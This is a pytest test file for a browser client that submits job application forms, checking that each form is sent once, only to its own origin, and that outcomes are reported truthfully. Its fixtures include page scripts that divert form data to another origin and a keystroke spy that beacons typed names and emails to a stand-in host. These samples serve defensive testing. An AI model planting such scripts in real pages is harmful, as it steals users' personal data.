"""A form is sent at most once, only where it was agreed, and what came of it is told or is unknown."""

import asyncio
import base64
import hashlib

import pytest

from app.clients.application_forms import OutcomeKind, SentEarly
from app.clients.browser.client import ChromiumClient
from tests.clients.application_forms.applying import ANSWERS, CV, apply, opened
from tests.standins.application_forms import (
    CLOSED,
    CONFIRMATION,
    DUPLICATE,
    WRONG,
    ApplicationForms,
    Play,
    Send,
    origin_of,
)
from tests.standins.web import Answer, Visit

pytestmark = pytest.mark.asyncio(loop_scope="module")

FORM = """<h1>Gardener</h1><form $form action="$action" method="post" enctype="multipart/form-data">
<p><label for=name>Name *</label><input id=name name=name required></p>
<p><label for=email>Email *</label><input id=email name=email type=email required></p>
<p><label for=cv>CV</label><input id=cv name=cv type=file></p>
<p><label for=letter>Cover letter</label><textarea id=letter name=letter></textarea></p>
$more<button $button>Send application</button></form>$after"""


def form(*, attributes: str = "", button: str = "", more: str = "", after: str = "") -> str:
    return (
        FORM.replace("$form", attributes).replace("$button", button).replace("$more", more).replace("$after", after)
    )  # fmt: skip


def accept_socket(visit: Visit) -> Answer:
    key = visit.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
    accept = base64.b64encode(hashlib.sha1(key.encode()).digest()).decode()
    headers = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Accept": accept, "Content-Length": ""}
    return Answer(status=101, headers=headers)


OUTCOMES: list[tuple[Play, Send, OutcomeKind, str]] = [
    ("page", "itself", OutcomeKind.SUBMITTED, CONFIRMATION),
    ("page", "script", OutcomeKind.SUBMITTED, CONFIRMATION),
    ("redirect", "itself", OutcomeKind.SUBMITTED, CONFIRMATION),
    ("redirect_elsewhere", "itself", OutcomeKind.SUBMITTED, CONFIRMATION),
    ("slow", "itself", OutcomeKind.SUBMITTED, CONFIRMATION),
    ("duplicate", "script", OutcomeKind.DUPLICATE, DUPLICATE),
    ("closed", "itself", OutcomeKind.CLOSED, CLOSED),
    ("invalid", "itself", OutcomeKind.REFUSED, WRONG),
    ("invalid", "script", OutcomeKind.REFUSED, WRONG),
    ("mute", "itself", OutcomeKind.UNKNOWN, "We ship containers"),
    ("error", "script", OutcomeKind.UNKNOWN, "Something went wrong"),
    ("reset", "itself", OutcomeKind.UNKNOWN, ""),
    ("silent", "itself", OutcomeKind.UNKNOWN, "nothing tells"),
    ("resend_elsewhere", "itself", OutcomeKind.UNKNOWN, "127.0.0.2"),
    ("resend_elsewhere", "script", OutcomeKind.UNKNOWN, "127.0.0.2"),
    ("login", "itself", OutcomeKind.UNKNOWN, "Sign in"),
    ("download", "itself", OutcomeKind.UNKNOWN, ""),
]
SHORT = {
    ("page", "script"), ("redirect_elsewhere", "itself"), ("duplicate", "script"), ("closed", "itself"),
    ("invalid", "itself"), ("error", "script"), ("reset", "itself"), ("resend_elsewhere", "itself"),
}  # fmt: skip


@pytest.mark.parametrize(
    ("play", "send", "kind", "text"),
    [one if one[:2] in SHORT else pytest.param(*one, marks=pytest.mark.long) for one in OUTCOMES],
)
async def test_board_receives_the_form_once_and_its_answer_is_told(
    browser: ChromiumClient, boards: ApplicationForms, play: Play, send: Send, kind: OutcomeKind, text: str
) -> None:
    outcome = await apply(browser, boards, boards.serve("plain", play, send=send))
    assert (outcome.kind, outcome.is_unsent) == (kind, False)
    assert text in outcome.text
    [submission] = boards.submissions
    assert submission.origin == boards.origin
    assert [file.sha256 for file in submission.files] == [CV.sha256]
    if play == "invalid":
        assert outcome.messages == {"email": WRONG}


async def test_what_was_sent_is_not_sent_again_and_what_was_refused_may_be(
    browser: ChromiumClient, boards: ApplicationForms
) -> None:
    boards.submissions.clear()
    async with opened(browser, boards.serve("plain", "error", send="script")) as one:
        await one.fill_right("plain")
        first = await one.send()
        assert first.kind is OutcomeKind.UNKNOWN
        assert await one.send() == first
    assert len(boards.submissions) == 1
    async with opened(browser, boards.serve("plain", "invalid")) as one:
        await one.fill_right("plain")
        assert (await one.send()).kind is OutcomeKind.REFUSED
        filled = await one.form.fill(ANSWERS["plain"])
        assert all(field.is_right for field in filled)
        assert (await one.send()).kind is OutcomeKind.REFUSED
    assert len(boards.submissions) == 3


@pytest.mark.parametrize(
    ("html", "text"),
    [
        (form(), "Please fill out this field"),
        (form(attributes='onsubmit="event.preventDefault(); note.textContent = \'Please enter your name.\'"',
              more='<p id=note role=alert></p>'), "Please enter your name."),
        (form(attributes='onsubmit="return confirm(\'Really?\')"'), "Really?"),
        (form(button="disabled"), "cannot be pressed"),
        (form(attributes='onsubmit="return false"'), "did not send"),
        (form(button="style=display:none"), "nothing that sends"),
        (form(attributes="target=_blank"), "another window"),
    ],
    ids=["native", "script", "dialog", "disabled", "nothing", "hidden", "window"],
)  # fmt: skip
async def test_form_that_the_page_holds_back_is_surely_unsent(
    browser: ChromiumClient, boards: ApplicationForms, html: str, text: str
) -> None:
    boards.submissions.clear()
    async with opened(browser, boards.serve_html(html)) as one:
        if "Please fill" not in text:
            await one.form.fill({"name": "Ada", "email": "ada@example.com"})
        outcome = await one.send()
        assert (outcome.kind, outcome.is_unsent) == (OutcomeKind.REFUSED, True)
        assert text in f"{outcome.text} {outcome.messages}"
    assert boards.submissions == []


@pytest.mark.parametrize(
    "script",
    [
        "fetch('/keep?form=' + btoa(JSON.stringify([...new FormData(this)])))",
        "(socket => { socket.onopen = () => socket.send('form') })(new WebSocket('ws://' + location.host + '/socket'))",
    ],
    ids=["query", "socket"],
)
async def test_form_that_may_have_left_in_disguise_is_not_called_unsent(
    browser: ChromiumClient, boards: ApplicationForms, script: str
) -> None:
    html = form(attributes=f'onsubmit="event.preventDefault(); {script}"')
    boards.board.respond("/socket", accept_socket)
    outcome = await apply(browser, boards, boards.serve_html(html))
    assert (outcome.kind, outcome.is_unsent) == (OutcomeKind.UNKNOWN, False)


async def test_form_said_to_be_unsent_cannot_leave_later(browser: ChromiumClient, boards: ApplicationForms) -> None:
    late = "event.preventDefault(); setTimeout(() => { this.submit(); fetch(this.action, {method: 'POST'}) }, 3000)"
    boards.submissions.clear()
    async with opened(browser, boards.serve_html(form(attributes=f'onsubmit="{late}"'))) as one:
        await one.form.fill({"name": "Ada", "email": "ada@example.com"})
        outcome = await one.send()
        assert outcome.is_unsent
        await asyncio.sleep(2.5)
    assert boards.submissions == []


@pytest.mark.parametrize(
    "html",
    [
        form(more="<input type=hidden name=action value=/here>").replace("$action", "$elsewhere/take"),
        form(button='formaction="$elsewhere/take"'),
        form(after="<base href=$elsewhere/>").replace('action="$action"', 'action="take"'),
        form().replace("$action", "mailto:jobs@harbour.example"),
    ],
    ids=["action", "formaction", "base", "mailto"],
)
async def test_form_that_names_another_origin_is_not_even_pressed(
    browser: ChromiumClient, boards: ApplicationForms, html: str
) -> None:
    boards.submissions.clear()
    url = boards.serve_html(html.replace("$elsewhere", origin_of(boards.elsewhere)))
    async with opened(browser, url) as one:
        await one.form.fill({"name": "Ada", "email": "ada@example.com"})
        outcome = await one.form.submit(origin=boards.origin)
        assert (outcome.kind, outcome.is_unsent) == (OutcomeKind.OTHER_ORIGIN, True)
        assert "would be sent" in outcome.text
    assert boards.submissions == []


@pytest.mark.parametrize(
    "script",
    [
        "this.action = '$there'",
        "event.preventDefault(); fetch('$there', {method: 'POST', mode: 'no-cors', body: new FormData(this)})",
        "event.preventDefault(); location = '$there?' + new URLSearchParams(new FormData(this))",
        "event.preventDefault(); navigator.sendBeacon('$there', new URLSearchParams(new FormData(this)))",
        "this.action = '$there'; this.target = '_blank'",
        "this.action = '$there'; this.method = 'get'",
    ],
    ids=["action", "fetch", "address", "beacon", "window", "get"],
)
async def test_form_that_a_script_sends_elsewhere_is_stopped_on_its_way(
    browser: ChromiumClient, boards: ApplicationForms, script: str
) -> None:
    boards.submissions.clear()
    there = boards.elsewhere.respond("/take", boards.keep)
    url = boards.serve_html(form(attributes=f'onsubmit="{script.replace("$there", there)}"'))
    async with opened(browser, url) as one:
        await one.form.fill({"name": "Ada Lovelace", "email": "ada@example.com"})
        outcome = await one.form.submit(origin=boards.origin)
        assert (outcome.kind, outcome.is_unsent) == (OutcomeKind.OTHER_ORIGIN, True)
        assert origin_of(boards.elsewhere) in outcome.text
    assert boards.submissions == []


async def test_nothing_that_is_typed_leaves_for_other_origins_while_it_is_typed(
    browser: ChromiumClient, boards: ApplicationForms
) -> None:
    boards.submissions.clear()
    there = boards.elsewhere.respond("/take", boards.keep)
    spy = f"""<script>for (const input of document.querySelectorAll('input')) input.addEventListener('input', () => {{
      const data = new URLSearchParams([['email', email.value], ['name', document.getElementById('name').value]]);
      navigator.sendBeacon('{there}', data);
      fetch('{there}?' + data, {{mode: 'no-cors'}}).catch(() => 0);
      if (email.value) document.forms[0].requestSubmit(); }})</script>"""
    async with opened(browser, boards.serve_html(form(after=spy))) as one:
        filled = await one.form.fill({"name": "Ada Lovelace", "email": "ada@example.com"})
        assert all(field.is_right for field in filled)
        await asyncio.sleep(0.3)
        assert boards.submissions == []
        assert (await one.send()).kind is OutcomeKind.SUBMITTED
    assert [(submission.origin, submission["email"]) for submission in boards.submissions] == [
        (boards.origin, "ada@example.com")
    ]


async def test_form_in_a_frame_is_not_sent_on_to_the_page_around_it(
    browser: ChromiumClient, boards: ApplicationForms
) -> None:
    boards.submissions.clear()
    frame = f'<iframe src="{boards.serve("plain", "resend_elsewhere")}" style="width:900px;height:900px"></iframe>'
    async with opened(browser, boards.serve_html(frame, at=boards.elsewhere)) as one:
        await one.page.frames[1].wait_for_load_state()
        await one.fill_right("plain")
        outcome = await one.form.submit(origin=boards.origin)
    assert outcome.kind is OutcomeKind.UNKNOWN
    assert [submission.origin for submission in boards.submissions] == [boards.origin]


async def test_thanks_that_stood_there_before_confirm_nothing(
    browser: ChromiumClient, boards: ApplicationForms
) -> None:
    html = form(attributes="onsubmit=\"event.preventDefault(); fetch(this.action, {method: 'POST'})\"")
    outcome = await apply(browser, boards, boards.serve_html(f"<p>Thank you for applying!</p>{html}"))
    assert (outcome.kind, len(boards.submissions)) == (OutcomeKind.UNKNOWN, 1)


async def test_thanks_without_a_request_confirm_nothing(browser: ChromiumClient, boards: ApplicationForms) -> None:
    html = form(attributes="onsubmit=\"event.preventDefault(); this.innerHTML = 'Thank you for applying!'\"")
    outcome = await apply(browser, boards, boards.serve_html(html))
    assert (outcome.kind, boards.submissions) == (OutcomeKind.UNKNOWN, [])


async def test_next_that_sends_is_told_as_sent(browser: ChromiumClient, boards: ApplicationForms) -> None:
    boards.submissions.clear()
    async with opened(browser, boards.serve_html(form().replace("Send application", "Next"))) as one:
        assert (await one.form.read()).is_last_step is False
        await one.fill_right("plain")
        with pytest.raises(SentEarly) as early:
            await one.form.next_step()
        assert early.value.outcome.kind is OutcomeKind.SUBMITTED
        assert await one.form.submit(origin=boards.origin) == early.value.outcome
    assert len(boards.submissions) == 1
